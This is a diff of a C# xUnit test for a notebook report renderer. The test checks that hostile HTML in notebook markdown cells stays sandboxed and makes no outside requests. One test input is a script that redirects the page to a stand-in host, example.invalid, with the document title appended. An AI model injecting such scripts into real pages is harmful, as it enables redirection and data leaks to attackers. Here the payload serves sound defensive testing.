@@ -1,8 +1,8 @@
 using System.Security.Cryptography;
 using System.Text.Json.Nodes;
 using System.Text.RegularExpressions;
-using Eml.Runner.Pictures;
 using Eml.Runner.Report;
+using Eml.Testing;
 using Xunit;
 
 namespace Eml.Runner.Tests;
@@ -43,8 +43,8 @@ public sealed class ReportTests
     [Fact]
     public async Task What_a_notebook_brings_runs_in_its_frame_and_leads_nowhere()
     {
-        string chromium = FigureTests.Browser();
-        CancellationToken cancellation = TestContext.Current.CancellationToken;
+        // What a frame does is told with what its page does, as long as both are in one process.
+        await using WatchedPage page = await WatchedPage.StartAsync("--disable-features=IsolateSandboxedIframes");
         string[] hostile =
         [
             "<script>location.href = 'https://example.invalid/?' + document.title</script>",
@@ -64,19 +64,17 @@ public sealed class ReportTests
         string path = folder.Write("a.ipynb", ["md:# Title", .. hostile.Select(html => "md:" + html), cells]);
         Assert.Equal(0, folder.Run(path).ExitCode);
 
-        // What a frame does is told with what its page does, as long as both are in one process.
-        await using Chromium browser = await Chromium.StartAsync(chromium, cancellation, "--disable-features=IsolateSandboxedIframes");
-        await browser.ShowAsync(1000, 800, dark: false, cancellation);
-        string page = Path.Combine(folder.Report, "a.html");
-        await browser.OpenAsync(page, cancellation);
+        await page.ShowAsync(1000, 800, dark: false);
+        string file = Path.Combine(folder.Report, "a.html");
+        await page.OpenAsync(file);
 
         // The last frame has run and told its height: those before it have had their turn.
         const string grown = "new Promise(done => { const look = () => [...document.querySelectorAll('iframe.frame')].at(-1).offsetHeight > 300 ? done(true) : setTimeout(look, 20); look(); })";
-        Assert.True((await browser.EvaluateAsync(grown, cancellation))!.GetValue<bool>());
-        Assert.Equal(new Uri(page).AbsoluteUri, (await browser.EvaluateAsync("location.href", cancellation))!.ToString());
-        Assert.Equal("Title", (await browser.EvaluateAsync("document.title", cancellation))!.ToString());
+        Assert.True(await page.EvaluateAsync<bool>(grown));
+        Assert.Equal(new Uri(file).AbsoluteUri, await page.EvaluateAsync<string>("location.href"));
+        Assert.Equal("Title", await page.EvaluateAsync<string>("document.title"));
         // What the page's policy forbids is told as well: a request that is then said to be blocked, a frame that shows an error page instead.
-        JsonNode[] told = [.. browser.Events.Select(e => e["params"]!)];
+        JsonNode[] told = [.. page.Told().Select(one => one.What)];
         string[] blocked = [.. told.Where(what => what["blockedReason"]?.ToString() == "csp").Select(what => what["requestId"]!.ToString())];
         IEnumerable<string?> asked = told.Where(what => !blocked.Contains(what["requestId"]?.ToString())).Select(what => (what["request"] ?? what["response"] ?? what["frame"])?["url"]?.ToString());
         Assert.Equal([], asked.Where(url => url?.Contains("example.invalid", StringComparison.Ordinal) == true));
